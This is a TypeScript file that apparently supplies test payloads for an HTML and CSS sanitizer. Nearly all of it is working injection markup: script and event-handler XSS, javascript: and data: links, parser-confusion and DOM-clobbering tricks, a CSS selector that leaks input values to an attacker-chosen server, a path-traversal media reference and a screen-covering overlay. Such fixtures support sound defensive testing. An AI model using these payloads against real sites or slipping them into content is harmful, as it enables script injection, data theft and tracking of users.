/** Code that leaves a mark wherever it runs, and asks the attacker's server. */
const hit = (server: string): string =>
  `try{window.pwned=1}catch(e){};try{parent.pwned=1}catch(e){};try{top.pwned=1}catch(e){};new Image().src='${server}/ran'`

/** HTML that acts, or asks the network, when it gets through. */
export function htmlAttacks(server: string): string[] {
  const run = hit(server)
  const inText = run.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  return [
    `<script>${run}</script>`,
    `<script src="${server}/a.js"></script>`,
    `<img src=x onerror="${inText}">`,
    `<img src="${server}/a.png">`,
    `<img srcset="${server}/b.png 1x">`,
    `<img src="//${server.slice(7)}/c.png">`,
    `<picture><source srcset="${server}/d.png"><img src=x></picture>`,
    `<svg onload="${inText}"><script>${run}</script></svg>`,
    `<svg><image href="${server}/e.png"/><use href="${server}/x.svg#x"/></svg>`,
    `<svg><a xlink:href="javascript:${inText}"><text y=20>x</text></a></svg>`,
    `<svg><animate attributeName=href values="javascript:${inText}" begin=0s dur=1s /></svg>`,
    `<svg><foreignObject><img src=x onerror="${inText}"></foreignObject></svg>`,
    `<svg><style><img src=x onerror="${inText}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inText}&gt;">`,
    `<math><mi xlink:href="javascript:${inText}">x</mi></math>`,
    `<a href="javascript:${inText}" id=go>x</a>`,
    `<a href="java&#x0A;script:${inText}">x</a>`,
    `<a href="data:text/html,<script>${inText}</script>" target=_top>x</a>`,
    `<a href="${server}/link" target=_top>x</a>`,
    `<meta http-equiv=refresh content="0;url=${server}/refresh">`,
    `<base href="${server}/"><img src="base.png">`,
    `<form action="${server}/form" id=f><input name=a value=b autofocus onfocus="${inText}"><button form=f>x</button></form>`,
    `<button formaction="javascript:${inText}">x</button>`,
    `<input type=image src="${server}/i.png"><isindex type=image src=x onerror="${inText}">`,
    `<link rel=stylesheet href="${server}/a.css"><link rel=prefetch href="${server}/p"><link rel=preconnect href="${server}">`,
    `<style>@import "${server}/b.css"; body{background:url(${server}/f.png)} @font-face{font-family:x;src:url(${server}/g.woff2)} *{font-family:x}</style>`,
    `<style>*{background:u\\72l("${server}/h.png")} p{list-style:image-set("${server}/i.png" 1x)} p{cursor:url(${server}/j.cur),auto}</style>`,
    `<div style="background:url(${server}/k.png)">x</div><div style="background:\\75\\72\\6c(${server}/l.png)">x</div>`,
    `<table background="${server}/m.png"><tr><td background="${server}/n.png">x</td></tr></table>`,
    `<iframe srcdoc="<script>${inText}</script>"></iframe>`,
    `<iframe src="${server}/frame"></iframe><iframe src="javascript:${inText}"></iframe>`,
    `<iframe src="data:text/html,<script>${inText}</script>"></iframe>`,
    `<object data="${server}/o"></object><embed src="${server}/e"><applet code="${server}/a"></applet>`,
    `<object data="data:text/html,<script>${inText}</script>"></object>`,
    `<video autoplay src="${server}/v.mp4" poster="${server}/v.png" onerror="${inText}"></video>`,
    `<audio autoplay src="${server}/a.mp3"></audio><video><track src="${server}/t.vtt" default></video>`,
    `<details open ontoggle="${inText}">x</details>`,
    `<template><img src=x onerror="${inText}"></template>`,
    `<div popover id=p onbeforetoggle="${inText}">x</div><button popovertarget=p>x</button>`,
    `<noscript><p title="</noscript><img src=x onerror=${inText}>"></noscript>`,
    `<textarea><img src=x onerror="${inText}"></textarea><title><img src=x onerror="${inText}"></title>`,
    `<!--><img src=x onerror="${inText}">-->`,
    `<x contenteditable onblur="${inText}" tabindex=1 autofocus>x</x>`,
    `<img name=createElement><img name=body><form name=getElementById></form><a id=qa name=documentElement>x</a>`,
    `\\(\\href{javascript:${run}}{x}\\) \\[\\includegraphics{${server}/tex.png}\\] \\(\\htmlStyle{background:url(${server}/tx.png)}{x}\\)`,
    `[latex]\\begin{x}<img src=x onerror="${inText}">\\end{x}[/latex]`,
    `[sound:${server}/s.mp3] [sound:../../collection.db]`,
  ]
}

/** Style sheets that ask the network, each in a way of its own. */
export function cssAttacks(server: string): string[] {
  return [
    `@import url(${server}/css1.css); .card { color: red }`,
    `@import "${server}/css2.css";`,
    `.card { background: url("${server}/css3.png") }`,
    `.card { background: U\\52L(${server}/css4.png) }`,
    `@font-face { font-family: y; src: url(${server}/css5.woff2) } .card { font-family: y }`,
    `.card { background-image: image-set("${server}/css6.png" 1x) }`,
    `.card::before { content: url(${server}/css7.png) }`,
    `@media all { .card { list-style-image: url(${server}/css8.png); border-image: url(${server}/css9.png) 1 } }`,
    `input[value^="a"] { background: url(${server}/leak) } .card { cursor: url(${server}/css10.cur), auto }`,
    `</style><script>top.pwned=1</script><style>`,
    `.card { height: 200vh; position: fixed; inset: 0; z-index: 99999 }`,
  ]
}
